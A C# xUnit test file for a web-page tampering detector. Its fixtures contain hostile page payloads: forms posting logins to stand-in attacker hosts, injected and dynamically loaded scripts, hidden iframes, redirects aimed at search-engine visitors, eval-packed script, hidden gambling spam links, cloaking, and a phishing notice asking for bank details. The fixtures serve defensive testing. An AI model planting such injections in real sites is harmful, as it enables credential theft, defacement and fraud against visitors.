using System.Text;
using Monitor.Collectors.Probes.Tampering;
using Monitor.Core.Probes;
using Xunit;

namespace Monitor.Tests.Collectors.Probes.Tampering;

/// <summary>The probe against a real server whose page is tampered with.</summary>
public sealed class TamperingProbeTests
{
    public static TheoryData<string, string, string, FindingSeverity> Attacks => new()
    {
        { "title", Pages.Filing(title: "系统维护中"), Codes.Title, FindingSeverity.Medium },
        { "spam title", Pages.Filing(title: "乐鱼体育官网登录入口-" + Pages.Title), Codes.SpamTitle, FindingSeverity.High },
        { "login elsewhere", Pages.Filing(action: "https://collect.evil-login.top/login"), Codes.FormTarget, FindingSeverity.High },
        { "search elsewhere", Pages.Filing(body: "<form action=\"http://q.evil-search.top/\"><input name=q></form>"), Codes.FormTarget, FindingSeverity.High },
        { "script", Pages.Filing(scripts: "<script src=\"//static.evil-cdn.top/j.js\"></script>"), Codes.ScriptNew, FindingSeverity.Medium },
        { "inline script", Pages.Filing(scripts: "<script>var s=document.createElement('script');s.src='https://static.evil-cdn.top/j.js';document.head.appendChild(s)</script>"), Codes.ScriptNew, FindingSeverity.Medium },
        { "frame", Pages.Filing(body: "<iframe src=\"https://evil-frame.top/\"></iframe>"), Codes.IframeNew, FindingSeverity.Medium },
        { "hidden frame", Pages.Filing(body: "<div style=\"display:none\"><iframe src=\"https://evil-frame.top/\"></iframe></div>"), Codes.IframeNew, FindingSeverity.High },
        { "refresh", Pages.Filing(head: "<meta http-equiv=\"refresh\" content=\"0; url=https://evil-jump.top/\">"), Codes.Refresh, FindingSeverity.High },
        { "spam link", Pages.Filing(body: "<a href=\"https://evil-spam.top/\">澳门正版资料大全</a>"), Codes.SpamLink, FindingSeverity.High },
        { "hidden link", Pages.Filing(body: "<div style=\"position:absolute;left:-9999px\"><a href=\"https://unknown-shop.top/\">友情链接</a></div>"), Codes.HiddenLink, FindingSeverity.Medium },
        { "hidden by class", Pages.Filing(head: "<style>.x{font-size:0}</style>", body: "<p class=\"x\"><a href=\"https://unknown-shop.top/\">友情</a></p>"), Codes.HiddenLink, FindingSeverity.Medium },
        { "hidden by colour", Pages.Filing(body: "<p style=\"color:#fff;background:white\"><a href=\"https://unknown-shop.top/\">友情</a></p>"), Codes.HiddenLink, FindingSeverity.Medium },
        { "hidden marquee", Pages.Filing(body: "<marquee height=0><a href=\"https://unknown-shop.top/\">友情</a></marquee>"), Codes.HiddenLink, FindingSeverity.Medium },
        { "written", Pages.Filing(scripts: "<script>document.write('<div style=\"display:none\"><a href=\"https://evil-spam.top/\">\\u4e50\\u9c7c\\u4f53\\u80b2\\u5b98\\u7f51</a></div>')</script>"), Codes.SpamLink, FindingSeverity.High },
        { "title by script", Pages.Filing(scripts: "<script>document.title=\"&#20048;&#40060;&#20307;&#32946;&#23448;&#32593;\"</script>"), Codes.SpamLink, FindingSeverity.High },
        { "for searchers", Pages.Filing(scripts: "<script>if(/baidu|sogou/.test(document.referrer)){location.href='https://evil-jump.top/'}</script>"), Codes.Injected, FindingSeverity.High },
        { "packed", Pages.Filing(scripts: "<script>eval(unescape('%61%6c%65%72%74'))</script>"), Codes.Injected, FindingSeverity.High },
        { "replaced", "<html><head><title>Hacked by nobody</title></head><body><h1>your security is zero</h1></body></html>", Codes.Text, FindingSeverity.High },
        { "text", Pages.Filing(about: string.Concat(Enumerable.Repeat("本系统即日起停止使用，请各位考生改到新的地址重新登记全部个人信息和银行账户。", 8))), Codes.Text, FindingSeverity.Medium },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task What_is_done_to_a_learnt_page_is_told_by_its_name(string name, string page, string code, FindingSeverity severity)
    {
        await using var site = await GuardedSite.StartAsync(Pages.Filing());
        await site.LearnAsync();
        Assert.DoesNotContain((await site.LookAsync()).Findings, f => f.Severity > FindingSeverity.Info);
        site.Page = _ => page;
        var result = await site.LookAsync();
        Assert.Equal(ProbeState.Up, result.State);
        Assert.True(result.Findings.Any(f => f.Code == code && f.Severity == severity), $"{name}: {string.Join("\n", result.Findings)}");
        Assert.All(result.Findings, f => Assert.Contains(" / ", f.Message, StringComparison.Ordinal));
        Targets.AssertSane(result);
        // It stays told: a changed page is not learnt by being looked at.
        Assert.Contains((await site.LookAsync()).Findings, f => f.Code == code && f.Severity == severity);
        site.Page = _ => Pages.Filing();
        Assert.DoesNotContain((await site.LookAsync()).Findings, f => f.Severity > FindingSeverity.Info);
        Assert.Null(await site.Approval.PendingAsync("filing", CancellationToken.None));
    }

    [Fact]
    public async Task A_page_that_lives_two_hundred_looks_long_raises_nothing()
    {
        await using var site = await GuardedSite.StartAsync("");
        List<string> raised = [];
        for (var look = 0; look < 200; look++)
        {
            var page = Pages.Living(look);
            site.Page = _ => page;
            var result = await site.LookAsync();
            Assert.Equal((ProbeState.Up, 200), (result.State, result.Status));
            raised.AddRange(result.Findings.Where(f => f.Severity > FindingSeverity.Info).Select(f => $"{look}: {f}"));
        }

        Assert.Empty(raised);
        site.Page = _ => Pages.Living(200).Replace("/login", "https://evil-login.top/login", StringComparison.Ordinal);
        Assert.Contains((await site.LookAsync()).Findings, f => f is { Code: Codes.FormTarget, Severity: FindingSeverity.High });
    }

    [Fact]
    public async Task A_hacked_page_is_told_at_the_first_look_and_never_learnt()
    {
        await using var site = await GuardedSite.StartAsync(Pages.Filing(body: "<div style=\"display:none\"><a href=\"https://evil-spam.top/\">国产精品无码一区</a></div>"));
        for (var look = 0; look < 6; look++)
            Assert.Contains((await site.LookAsync()).Findings, f => f is { Code: Codes.SpamLink, Severity: FindingSeverity.High } && f.Message.Contains("display:none", StringComparison.Ordinal));
        site.Page = _ => Pages.Filing();
        var learning = await site.LookAsync();
        Assert.Contains("1/3", Assert.Single(learning.Findings, f => f.Code == Codes.Learning).Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Another_face_for_search_engines_is_told_with_both_titles()
    {
        await using var site = await GuardedSite.StartAsync("");
        site.Page = agent => Pages.Filing(title: agent.Contains("Baiduspider", StringComparison.Ordinal) ? "澳门六合彩开奖结果" : Pages.Title);
        var cloaked = Assert.Single((await site.LookAsync()).Findings, f => f.Code == Codes.Cloaked);
        Assert.Equal(FindingSeverity.High, cloaked.Severity);
        Assert.Contains($"{Pages.Title} → 澳门六合彩开奖结果", cloaked.Message, StringComparison.Ordinal);
        site.Options = site.Options with { AsCrawler = false };
        Assert.DoesNotContain((await site.LookAsync()).Findings, f => f.Code == Codes.Cloaked);
    }

    [Fact]
    public async Task What_only_a_telephone_is_shown_is_seen_when_asked_for()
    {
        await using var site = await GuardedSite.StartAsync("");
        site.Page = agent => Pages.Filing(title: agent.Contains("Mobile", StringComparison.Ordinal) ? "开云体育app下载" : Pages.Title);
        Assert.DoesNotContain((await site.LookAsync()).Findings, f => f.Severity > FindingSeverity.Info);
        site.Options = site.Options with { AsMobile = true };
        Assert.Contains((await site.LookAsync()).Findings, f => f.Code == Codes.SpamTitle);
    }

    [Fact]
    public async Task Approval_accepts_exactly_the_look_that_was_shown()
    {
        await using var site = await GuardedSite.StartAsync(Pages.Filing());
        await site.LearnAsync();
        var ct = TestContext.Current.CancellationToken;
        site.Page = _ => Pages.Filing(title: "志愿填报系统（新版）", action: "https://sso.other-domain.cn/login");
        await site.LookAsync();
        var pending = (await site.Approval.PendingAsync("filing", ct))!;
        Assert.Contains(pending.Differences, d => d is { Code: Codes.Title, Before: Pages.Title, After: "志愿填报系统（新版）" });
        Assert.Equal(ApprovalOutcome.Changed, await site.Approval.ApproveAsync("filing", "another", ct));
        site.Page = _ => Pages.Filing(title: "志愿填报系统（新版）", action: "https://evil-login.top/login");
        await site.LookAsync();
        Assert.Equal(ApprovalOutcome.Changed, await site.Approval.ApproveAsync("filing", pending.Token, ct));
        site.Page = _ => Pages.Filing(title: "志愿填报系统（新版）", action: "https://sso.other-domain.cn/login");
        await site.LookAsync();
        Assert.Equal(ApprovalOutcome.Approved, await site.Approval.ApproveAsync("filing", pending.Token, ct));
        Assert.Equal(ApprovalOutcome.NothingPending, await site.Approval.ApproveAsync("filing", pending.Token, ct));
        Assert.DoesNotContain((await site.LookAsync()).Findings, f => f.Severity > FindingSeverity.Info);
        site.Page = _ => Pages.Filing();
        Assert.Contains((await site.LookAsync()).Findings, f => f.Code == Codes.Title);
    }

    [Fact]
    public async Task Ignored_parts_are_not_looked_at_and_a_broken_memory_learns_anew()
    {
        await using var site = await GuardedSite.StartAsync(Pages.Filing());
        site.Options = site.Options with { Ignore = ["#ads"], Learn = 1 };
        await site.LearnAsync();
        site.Page = _ => Pages.Filing(body: "<div id=ads><iframe src=\"https://banner.top/\"></iframe></div>");
        Assert.DoesNotContain((await site.LookAsync()).Findings, f => f.Severity > FindingSeverity.Info);
        await site.Memory.WriteAsync("filing", "tampering.baseline", "{\"version\":", TestContext.Current.CancellationToken);
        Assert.Contains((await site.LookAsync()).Findings, f => f.Code == Codes.Learning);
    }

    [Fact]
    public async Task A_gbk_page_is_read_in_its_charset()
    {
        await using var site = await GuardedSite.StartAsync(Pages.Filing(title: "博鱼体育官方网站"));
        site.Charset = CodePagesEncodingProvider.Instance.GetEncoding("gb18030")!;
        Assert.Contains((await site.LookAsync()).Findings, f => f.Code == Codes.SpamTitle && f.Message.Contains("博鱼体育", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_page_that_cannot_be_had_is_down_and_says_nothing_of_tampering()
    {
        await using var site = await GuardedSite.StartAsync(Pages.Filing());
        site.Status = 503;
        var result = await site.LookAsync();
        Assert.Equal((ProbeState.Down, 503), (result.State, result.Status));
        Assert.Empty(result.Findings);
    }

    [Theory]
    [InlineData("<div>", 200_000)]
    [InlineData("<b><a href=//x.top/>", 60_000)]
    [InlineData("<marquee height=0><font color=#fff><table bgcolor=white>", 30_000)]
    [InlineData("<script>document.write('<div style=display:none><a href=//y.top>开云体育</a>');", 20_000)]
    [InlineData("<style>.a{display:none}", 80_000)]
    [InlineData("<form action=//z.top><input type=password name=a>", 30_000)]
    [InlineData("<p>乐鱼体育<p title='", 60_000)]
    public async Task Hostile_pages_come_to_an_end(string part, int times)
    {
        await using var site = await GuardedSite.StartAsync(string.Concat(Enumerable.Repeat(part, times)));
        site.Options = site.Options with { AsCrawler = false, Timeout = TimeSpan.FromSeconds(60) };
        var result = await site.LookAsync();
        Assert.True(result.State is ProbeState.Up or ProbeState.Degraded, result.ToString());
    }
}
